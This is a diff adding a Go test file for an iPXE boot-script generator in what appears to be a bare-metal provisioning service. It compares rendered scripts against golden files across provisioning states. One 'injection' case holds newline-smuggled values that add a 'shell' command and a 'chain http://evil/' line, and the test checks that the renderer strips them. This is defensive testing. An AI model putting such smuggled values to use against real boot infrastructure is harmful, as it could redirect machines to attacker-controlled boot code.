@@ -1,0 +1,133 @@
+package pxe
+
+import (
+	"flag"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+var update = flag.Bool("update", false, "rewrite the iPXE script goldens under testdata/ipxe")
+
+func ptr(i int64) *int64 { return &i }
+
+const nodeUUID = "1be26c0b-03f2-4d2e-ae87-c02d7f33c123"
+
+func bfvNode() ScriptNode {
+	return ScriptNode{
+		UUID: nodeUUID, ProvisionState: "active", DeployInterface: "direct",
+		DriverInternalInfo: map[string]any{"boot_from_volume": "t-boot"},
+		VolumeTargets: []VolumeTarget{
+			{UUID: "t-data2", VolumeType: "iscsi", BootIndex: ptr(2), Properties: map[string]any{
+				"target_portals": []any{"10.0.2.2:5791", "10.0.3.2:3260"}, "target_iqn": "iqn.2010-10.org.openstack:data2", "target_lun": 2,
+				"auth_username": "u2", "auth_password": "p2"}},
+			{UUID: "t-boot", VolumeType: "iscsi", BootIndex: ptr(0), Properties: map[string]any{
+				"target_portal": "10.0.2.2:5790", "target_iqn": "iqn.2010-10.org.openstack:boot", "target_lun": 0,
+				"auth_username": "chapuser", "auth_password": "chapsecret"}},
+			{UUID: "t-data1", VolumeType: "iscsi", BootIndex: ptr(1), Properties: map[string]any{
+				"target_portal": "10.0.2.2", "target_iqns": []any{"iqn.2010-10.org.openstack:data1"}, "target_luns": []any{1},
+				"auth_username": "u1", "auth_password": "p1"}},
+			{UUID: "t-fc", VolumeType: "fibre_channel", BootIndex: ptr(3), Properties: map[string]any{}},
+		},
+		VolumeConnectors: []VolumeConnector{{Type: "ip", ConnectorID: "10.0.2.15"}, {Type: "iqn", ConnectorID: "iqn.2004-10.com.example:node1"}},
+	}
+}
+
+func TestIPXEScriptGoldens(t *testing.T) {
+	cfg := ScriptConfig{HTTPURL: "http://10.0.2.2:5781/", KernelAppendParams: "nofb nomodeset vga=normal", APIURL: "http://10.0.2.2:5780"}
+	deployDI := map[string]any{"deploy_kernel": "glance-kernel-uuid", "deploy_ramdisk": "glance-ramdisk-uuid",
+		"rescue_kernel": "http://images.example/rescue.kernel", "rescue_ramdisk": "http://images.example/rescue.initramfs"}
+	cases := map[string]struct {
+		cfg  func(*ScriptConfig)
+		node ScriptNode
+	}{
+		"active_bfv_iscsi": {node: bfvNode()},
+		"active_bfv_fc":    {node: func() ScriptNode { n := bfvNode(); n.VolumeTargets[1].VolumeType = "fibre_channel"; return n }()},
+		"active_local":     {node: ScriptNode{UUID: nodeUUID, ProvisionState: "active", DriverInternalInfo: map[string]any{"is_whole_disk_image": true}}},
+		"active_netboot": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "active",
+			InstanceInfo:       map[string]any{"image_source": "http://images.example/part.img", "kernel": "http://images.example/vmlinuz", "ramdisk": "initrd-glance-id", "capabilities": map[string]any{"boot_option": "netboot"}},
+			DriverInternalInfo: map[string]any{"root_uuid_or_disk_id": "4b4f5ad2-7e5e-4c2a-a3c5-6a1d8bb0e5c5"}}},
+		"active_ramdisk": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "active", DeployInterface: "ramdisk",
+			InstanceInfo: map[string]any{"kernel": "http://images.example/vmlinuz", "ramdisk": "http://images.example/initrd", "ramdisk_kernel_arguments": "console=ttyS0"}}},
+		"active_ramdisk_iso": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "active", DeployInterface: "ramdisk",
+			InstanceInfo: map[string]any{"boot_iso": "http://images.example/live.iso"}}},
+		"available":        {node: ScriptNode{UUID: nodeUUID, ProvisionState: "available"}},
+		"deploying_nokernel": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying"}},
+		"deploying_conf_defaults": {
+			cfg:  func(c *ScriptConfig) { c.DeployKernel, c.DeployRamdisk = "http://boot.example/ipa.kernel", "http://boot.example/ipa.initramfs" },
+			node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying"}},
+		"deploying_timeout_debug": {
+			cfg:  func(c *ScriptConfig) { c.IPXETimeout, c.Debug = 60, true },
+			node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying", DriverInfo: deployDI,
+				InstanceInfo: map[string]any{"kernel_append_params": "%default% console=ttyS0,115200n8"}}},
+		"injection": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying",
+			DriverInfo: map[string]any{"deploy_kernel": "http://x/k\nshell", "deploy_ramdisk": "http://x/r", "kernel_append_params": "a\r\nchain http://evil/"}}},
+		"unknown_node": {},
+	}
+	for _, st := range []string{"deploying", "wait call-back", "cleaning", "clean wait", "inspecting", "inspect wait", "rescuing", "rescue wait"} {
+		cases[strings.ReplaceAll(st, " ", "_")] = struct {
+			cfg  func(*ScriptConfig)
+			node ScriptNode
+		}{node: ScriptNode{UUID: nodeUUID, ProvisionState: st, DriverInfo: deployDI}}
+	}
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			c := cfg
+			if tc.cfg != nil {
+				tc.cfg(&c)
+			}
+			s, err := NewScripter(c)
+			if err != nil {
+				t.Fatal(err)
+			}
+			var got Script
+			if name == "unknown_node" {
+				got = s.ErrorScript("no node has a port with MAC address 52:54:00:12:34:56")
+			} else {
+				got = s.Render(tc.node)
+			}
+			if !strings.HasPrefix(got.Body, "#!ipxe\n") {
+				t.Errorf("body does not start with #!ipxe: %q", got.Body)
+			}
+			wantProblem := strings.Contains(got.Body, "exit 1")
+			if (got.Problem != "") != wantProblem {
+				t.Errorf("problem %q for body\n%s", got.Problem, got.Body)
+			}
+			for _, l := range strings.Split(got.Body, "\n") {
+				if strings.HasPrefix(l, "shell") || strings.HasPrefix(l, "chain") {
+					t.Errorf("injected line %q", l)
+				}
+			}
+			path := filepath.Join("testdata", "ipxe", name+".ipxe")
+			if *update {
+				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+					t.Fatal(err)
+				}
+				if err := os.WriteFile(path, []byte(got.Body), 0o644); err != nil {
+					t.Fatal(err)
+				}
+				return
+			}
+			want, err := os.ReadFile(path)
+			if err != nil {
+				t.Fatalf("%v (run with -update)", err)
+			}
+			if string(want) != got.Body {
+				t.Errorf("script differs from %s:\n--- got\n%s\n--- want\n%s", path, got.Body, want)
+			}
+		})
+	}
+}
+
+func BenchmarkRender(b *testing.B) {
+	s, err := NewScripter(ScriptConfig{HTTPURL: "http://10.0.2.2:5781", KernelAppendParams: "nofb", APIURL: "http://10.0.2.2:5780"})
+	if err != nil {
+		b.Fatal(err)
+	}
+	n := ScriptNode{UUID: nodeUUID, ProvisionState: "deploying", DriverInfo: map[string]any{"deploy_kernel": "k", "deploy_ramdisk": "r"}}
+	b.ReportAllocs()
+	for b.Loop() {
+		s.Render(n)
+	}
+}
